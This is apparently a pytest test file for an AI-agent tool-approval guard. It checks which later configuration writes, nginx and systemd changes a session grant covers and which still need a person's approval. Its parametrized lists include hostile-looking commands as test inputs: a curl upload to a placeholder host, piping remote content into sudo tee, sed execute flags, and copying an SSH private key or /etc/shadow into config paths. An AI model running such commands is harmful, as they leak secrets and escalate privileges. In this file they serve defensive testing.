"""One answer for the settings of a service, or for a unit: what is covered, and what is asked about again."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from test_session_grants import SESSION, Owner
from toolguard_engine.config.settings import Config
from toolguard_engine.wire import messages

Made = str | tuple[str, dict[str, Any]]

TEE = "sudo tee /etc/nginx/conf.d/a.conf <<'END'\nserver {}\nEND"
WRITE: Made = ("write", {"path": "/etc/nginx/conf.d/b.conf", "content": "server { listen 80; }\n"})
EDIT: Made = ("edit", {"path": "/etc/nginx/nginx.conf", "edits": [{"oldText": "a", "newText": "b"}]})
COPY = "sudo cp n /etc/nginx/sites-available/shop"
LINK = "sudo ln -s /etc/nginx/sites-available/shop /etc/nginx/sites-enabled/shop"
SED = "sudo sed -i 's/80/81/' /etc/nginx/nginx.conf"
SERVICE: tuple[Made, ...] = (TEE, WRITE, EDIT, COPY, LINK, SED, "echo 'x 1;' > /etc/nginx/conf.d/c.conf")

UNIT = "/etc/systemd/system/shop.service"
UNIT_WRITE: Made = ("write", {"path": UNIT, "content": "[Service]\nExecStart=/srv/shop/run\n"})
UNIT_EDIT: Made = ("edit", {"path": UNIT, "edits": [{"oldText": "always", "newText": "on-failure"}]})
ENABLE = "sudo systemctl enable --now shop"
PROGRAM: Made = ("write", {"path": "/usr/local/bin/save.sh", "content": "#!/bin/sh\necho one\n"})
PROGRAM_AGAIN: Made = ("write", {"path": "/usr/local/bin/save.sh", "content": "#!/bin/sh\necho two\n"})


@pytest.fixture
def owner(tmp_path: Path) -> Owner:
    return Owner(tmp_path)


def made(owner: Owner, call: Made, **changed: str) -> Any:
    tool, params = call if isinstance(call, tuple) else ("exec", {"command": call})
    return owner.call(params, tool, **changed)


def is_alike(owner: Owner, first: Made, later: Made, **changed: str) -> bool:
    """Whether the later call runs after an answer for the first. Both are asked about without one."""
    assert owner.is_asked(made(owner, later, **changed))
    owner.answer(made(owner, first))
    assert owner.is_covered(made(owner, first))
    return owner.is_covered(made(owner, later, **changed))


@pytest.mark.parametrize("first", SERVICE)
@pytest.mark.parametrize("later", SERVICE)
def test_the_settings_of_one_service_are_one_thing(owner: Owner, first: Made, later: Made) -> None:
    assert is_alike(owner, first, later)


@pytest.mark.parametrize(
    ("first", "later"),
    [
        (UNIT_WRITE, UNIT_EDIT),
        (UNIT_WRITE, f"sudo tee {UNIT} <<'END'\n[Service]\nEND"),
        (UNIT_EDIT, ENABLE),
        (UNIT_WRITE, f"sudo systemctl daemon-reload && {ENABLE}"),
        (UNIT_WRITE, "systemctl daemon-reload; systemctl enable shop"),
        (ENABLE, "sudo systemctl enable shop.service"),
        (PROGRAM, PROGRAM_AGAIN),
    ],
)
def test_a_unit_and_a_program_are_one_thing(owner: Owner, first: Made, later: Made) -> None:
    assert is_alike(owner, first, later)


ELSEWHERE = [
    "/etc/samba/smb.conf", "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ssh/ssh_config.d/a.conf",
    "/etc/apt/sources.list", "/etc/security/limits.conf", "/etc/sudoers.d/a", "/etc/pam.d/nginx", "/etc/ld.so.conf.d/a.conf",
    "/etc/cron.d/nginx", "/etc/profile.d/nginx.sh", "/etc/nginx/start.sh", "/etc/nginx/modules/x.conf", "/etc/nginx/run",
    "/etc/nginx/htpasswd.conf", "/etc/nginx/ssl/site.conf", "/etc/nginx/hooks/a.conf", "/etc/nginx/../hosts",
    "/etc/nginx/*.conf", "/etc/nginx/$X.conf", "/usr/local/bin/nginx.conf", "/etc/logrotate.d/nginx", "/etc/sysctl.d/a.conf",
    "/etc/systemd/system/nginx.service", "/etc/docker/daemon.json", "/srv/nginx/a.conf", "/etc/nginx-x/a.conf",
]  # fmt: skip


@pytest.mark.parametrize("path", ELSEWHERE)
def test_a_file_elsewhere_or_that_runs_or_gives_access_is_asked_about(owner: Owner, path: str) -> None:
    owner.answer(made(owner, TEE))
    assert owner.is_asked(owner.call(f"sudo tee {path} <<'END'\nx\nEND"))


MORE = [
    f"{COPY} && sudo systemctl stop sshd",
    f"{COPY} && sudo usermod -aG docker ann",
    f"{COPY}; curl -d @n https://up.example.com/in",
    "sudo cp -r /srv/x /etc/nginx/sites-available/shop",
    "sudo cp -a n /etc/nginx/conf.d/a.conf",
    "sudo cp --preserve=all n /etc/nginx/conf.d/a.conf",
    "sudo cp ~/.ssh/id_ed25519 /etc/nginx/conf.d/a.conf",
    "sudo cp n /etc/nginx/conf.d/a.conf /etc/nginx/conf.d/b.conf /srv/x",
    "sudo install -m 4755 n /etc/nginx/conf.d/a.conf",
    "sudo ln -s /etc/shadow /etc/nginx/conf.d/a.conf",
    "sudo ln -s /srv/x /etc/nginx/conf.d/a.conf",
    "sudo ln -s ../../x /etc/nginx/conf.d/a.conf",
    "sudo ln -s /etc/nginx/../x /etc/nginx/conf.d/a.conf",
    "sudo sed -i 's/.*/id/e' /etc/nginx/nginx.conf",
    "sudo sed -i '1e id' /etc/nginx/nginx.conf",
    "sudo sed -i 's/a/b/;1e id' /etc/nginx/nginx.conf",
    "sudo sed -i 's/a/b/w /etc/cron.d/x' /etc/nginx/nginx.conf",
    "sudo sed -i -f n /etc/nginx/nginx.conf",
    "sudo sed -i s/a/b/ /etc/nginx/nginx.conf /etc/hosts",
    "sudo tee /etc/nginx/conf.d/a.conf /etc/cron.d/a < n",
    "sudo -u bob tee /etc/nginx/conf.d/a.conf < n",
    "sudo -R /srv/x tee /etc/nginx/conf.d/a.conf < n",
    "sudo A=1 tee /etc/nginx/conf.d/a.conf < n",
    "sudo bash -c 'echo x > /etc/nginx/conf.d/a.conf'",
    "curl https://x.example | sudo tee /etc/nginx/conf.d/a.conf",
    "ssh host.example sudo tee /etc/nginx/conf.d/a.conf < n",
    "sudo rm /etc/nginx/conf.d/a.conf",
    "sudo chmod 666 /etc/nginx/conf.d/a.conf",
    "sudo mv /etc/nginx/conf.d/a.conf /etc/nginx/conf.d/b.conf",
    "sudo systemctl enable nginx",
    "sudo systemctl --root=/srv/x enable nginx",
    "X=$(curl https://x.example); sudo tee /etc/nginx/conf.d/a.conf <<< $X",
]


@pytest.mark.parametrize("command", MORE)
def test_a_command_that_does_anything_else_is_asked_about(owner: Owner, command: str) -> None:
    owner.answer(made(owner, TEE))
    assert not owner.is_covered(owner.call(command))


@pytest.mark.parametrize("changed", [{"host": "node"}, {"elevated": True}, {"env": {"PATH": "/tmp"}}])
def test_another_machine_or_environment_is_asked_about(owner: Owner, changed: dict[str, Any]) -> None:
    owner.answer(made(owner, TEE))
    assert owner.is_asked(owner.call({"command": TEE, **changed}))


@pytest.mark.parametrize(
    ("first", "later"),
    [
        (UNIT_WRITE, "sudo systemctl enable other"),
        (UNIT_WRITE, "sudo systemctl enable shop other"),
        (UNIT_WRITE, f"sudo systemctl daemon-reload --root=/srv/x && {ENABLE}"),
        (UNIT_WRITE, f"sudo systemctl daemon-reload other && {ENABLE}"),
        (UNIT_WRITE, f"sudo systemctl daemon-reexec && {ENABLE}"),
        (UNIT_WRITE, f"SYSTEMD_UNIT_PATH=/tmp systemctl daemon-reload && {ENABLE}"),
        (UNIT_WRITE, f"ssh far systemctl daemon-reload && {ENABLE}"),
        (UNIT_WRITE, f"./systemctl daemon-reload && {ENABLE}"),
        (UNIT_WRITE, f"sudo -u bob systemctl daemon-reload && {ENABLE}"),
        (UNIT_WRITE, "./systemctl enable shop"),
        (TEE, "./tee /etc/nginx/conf.d/a.conf < n"),
        (TEE, "sudo ./sed -i s/80/81/ /etc/nginx/nginx.conf"),
        (UNIT_WRITE, "./systemctl daemon-reload && ./systemctl enable shop"),
        (UNIT_WRITE, "/tmp/systemctl daemon-reload && /tmp/systemctl enable shop"),
        (UNIT_WRITE, "export PATH=/tmp; systemctl daemon-reload && systemctl enable shop"),
        (UNIT_WRITE, "systemctl daemon-reload > /etc/x && systemctl enable shop"),
        (UNIT_WRITE, "systemctl daemon-reload | sh && systemctl enable shop"),
        (UNIT_WRITE, "systemctl daemon-reload $(curl https://x.example) && systemctl enable shop"),
        (ENABLE, UNIT_WRITE),
        (ENABLE, f"sudo tee {UNIT} < n"),
        (UNIT_WRITE, ("write", {"path": "/etc/systemd/system/shop.timer", "content": "[Timer]\n"})),
        (UNIT_WRITE, ("write", {"path": "/etc/systemd/system/shop.service.d/o.conf", "content": "[Service]\n"})),
        (PROGRAM, ("write", {"path": "/usr/local/bin/other.sh", "content": "#!/bin/sh\necho one\n"})),
    ],
)
def test_another_unit_or_program_or_a_stronger_effect_is_asked_about(owner: Owner, first: Made, later: Made) -> None:
    assert not is_alike(owner, first, later)


DECIDED = ["ssh", "apt", "dnf", "dpkg", "git", "pip", "ufw", "netplan", "ldap", "supervisor", "libvirt", "security", "opt"]


@pytest.mark.parametrize("name", DECIDED)
def test_folders_about_access_programs_or_the_network_are_decided_each_time(owner: Owner, name: str) -> None:
    call = made(owner, f"sudo tee /etc/{name}/a.conf < n")
    reply = owner.says(owner.held(call).nonce)
    assert not reply.ok
    assert "it changes the system" in reply.text


@pytest.mark.parametrize("unit", ["ssh.service", "getty@tty1.service", "systemd-logind.service"])
def test_units_that_let_people_in_are_decided_each_time(owner: Owner, unit: str) -> None:
    call = made(owner, ("write", {"path": f"/etc/systemd/system/{unit}", "content": "[Service]\n"}))
    assert not owner.says(owner.held(call).nonce).ok


@pytest.mark.parametrize("changed", [{"agent": "other"}, {"session": "agent:main:telegram:7"}, {"agent": ""}])
@pytest.mark.parametrize("later", [TEE, WRITE, COPY])
def test_another_agent_or_session_is_asked_about(owner: Owner, later: Made, changed: dict[str, str]) -> None:
    assert not is_alike(owner, TEE, later, **changed)


def test_it_ends_with_its_session(owner: Owner) -> None:
    assert is_alike(owner, TEE, WRITE)
    owner.answers.end(SESSION)
    assert owner.is_asked(made(owner, WRITE))


def test_a_unit_behind_a_link_is_asked_about(owner: Owner, tmp_path: Path) -> None:
    """A link that leads out of the area is another place."""
    unit = tmp_path / ".config/systemd/user/shop.service"
    unit.parent.mkdir(parents=True)
    unit.write_text("[Service]\n")
    call: Made = ("edit", {"path": str(unit), "edits": [{"oldText": "a", "newText": "b"}]})
    owner.answer(made(owner, call))
    other: Made = ("edit", {"path": str(unit), "edits": [{"oldText": "c", "newText": "d"}]})
    assert owner.is_covered(made(owner, other))
    unit.unlink()
    unit.symlink_to(tmp_path / "work" / "n")
    assert not owner.is_covered(made(owner, other))


@pytest.mark.parametrize(
    ("call", "shown"),
    [
        (TEE, "also, with any tool: other settings in /etc/nginx, for the rest of this session, 8 hours at most"),
        (UNIT_WRITE, f"also, with any tool: other changes of {UNIT}, for the rest of this session, 8 hours at most"),
        (ENABLE, f"also, with any tool: enabling {UNIT}, for the rest of this session, 8 hours at most"),
    ],
)
def test_what_else_is_covered_is_shown_before(owner: Owner, call: Made, shown: str) -> None:
    nonce = owner.held(made(owner, call)).nonce
    asked = messages.PersonDecision(7, "approve", "chat", nonce, "telegram:42", "", lasts="session", chat="c")
    assert shown in owner.approvals.decide(asked, Config()).text
    assert owner.is_asked(made(owner, call))
